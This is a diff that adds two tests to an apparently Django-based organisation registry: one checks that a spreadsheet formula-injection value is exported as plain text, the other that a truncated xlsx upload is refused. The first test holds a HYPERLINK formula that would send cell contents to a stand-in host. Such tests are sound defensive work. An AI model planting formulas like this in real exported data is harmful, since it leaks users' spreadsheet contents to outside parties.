@@ -187,3 +187,24 @@ def test_many_rows_import_in_one_go(users: dict[str, Any], client_for: Any) -> N
     assert response.context["result"].created == 200
     assert Organisation.objects.filter(name__startswith="批量企业").count() == 200
     OrganisationFactory()  # the factory still works after a bulk import
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(
+    users: dict[str, Any], client_for: Any, own_organisation: Organisation
+) -> None:
+    own_organisation.note = '=HYPERLINK("http://example.test/?"&A2,"x")'
+    own_organisation.save()
+    response = client_for(users["city_admin"]).get("/registry/organisations/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    note = sheet.cell(row=2, column=10)
+    assert note.data_type == "s"
+    assert note.value == own_organisation.note
+
+
+def test_a_corrupt_workbook_is_refused_not_crashed(users: dict[str, Any], client_for: Any) -> None:
+    valid = _sheet([HEADERS_ZH, [make_uscc(), "x", "电子商务企业", "420625", ""]]).read()
+    truncated = SimpleUploadedFile("broken.xlsx", valid[: len(valid) // 2])
+    response = client_for(users["city_admin"]).post(IMPORT_URL, {"file": truncated})
+    assert response.status_code == 422
+    assert [error.code for error in response.context["errors"]] == ["invalid_file"]
